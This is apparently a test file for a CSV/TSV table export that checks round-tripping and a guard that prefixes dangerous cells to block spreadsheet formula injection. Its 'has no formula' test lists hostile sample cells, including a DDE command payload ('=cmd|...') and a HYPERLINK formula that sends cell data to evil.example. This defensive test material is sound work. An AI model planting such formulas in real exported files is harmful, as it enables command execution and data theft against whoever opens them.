import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import fc from '../../fast-check.js';
import { withoutFormula, writeCsv, writeTsv } from '../../../src/markdown/table/write-table.js';

const cell = fc.oneof(
  fc.string({ unit: 'grapheme', maxLength: 12 }),
  fc.constantFrom(
    '',
    '"',
    '""',
    'a "b"',
    'a,b',
    'a;b',
    'line\nline',
    'a\tb',
    '-5',
    '+49 30',
    '=1+1',
    "'",
    '1,234.5',
    '-1.5 %',
    ' x ',
  ),
);
const table = fc
  .integer({ min: 2, max: 5 })
  .chain((columns) => fc.array(fc.array(cell, { minLength: columns, maxLength: columns }), { minLength: 1, maxLength: 12 }));

describe('a table that is copied or downloaded', () => {
  it('is read by a parser as it was, but for the guard', () => {
    fc.assert(
      fc.property(table, (rows) => {
        const guarded = rows.map((row) => row.map(withoutFormula));
        const options = { record_delimiter: '\r\n', relax_column_count: false };
        assert.ok(writeCsv(rows).startsWith('\ufeff'));
        assert.deepEqual(parse(writeCsv(rows), { ...options, bom: true }), guarded);
        assert.deepEqual(parse(writeTsv(rows), { ...options, delimiter: '\t' }), guarded);
      }),
    );
  });

  it('has no formula', () => {
    const dangerous = [
      '=1+1',
      '=cmd|" /C calc"!A0',
      '+cmd|x',
      '-2+3+cmd|x',
      '@SUM(A1)',
      '=HYPERLINK("https://evil.example?"&A1)',
      '-=1',
      '+-1',
      '--1',
      '-',
      '+1-1',
      '-1+1',
      '=-5',
      '\t=1',
      '\r=1',
      '＝1+1',
      '-A1',
      '+49-30',
      '-1,',
      '-5 =1',
    ];
    for (const text of dangerous) assert.equal(withoutFormula(text), `'${text}`, text);
    for (const text of ['-5', '+5', '-1.5', '-1,234.50', '-1.234,5', '−5', '-12 %', '-1e9', '5-3', 'a=b', '', '0', "'=1"])
      assert.equal(withoutFormula(text), text, text);
  });

  it('begins no field with what a program runs', () => {
    fc.assert(
      fc.property(fc.constantFrom('=', '+', '-', '@', '\t', '\r'), fc.string({ maxLength: 10 }), (sign, rest) => {
        const guarded = withoutFormula(sign + rest);
        assert.ok(guarded.startsWith("'") || Number.isFinite(Number(guarded.replace(/[\s%.,'’]/g, ''))), guarded);
      }),
    );
  });
});
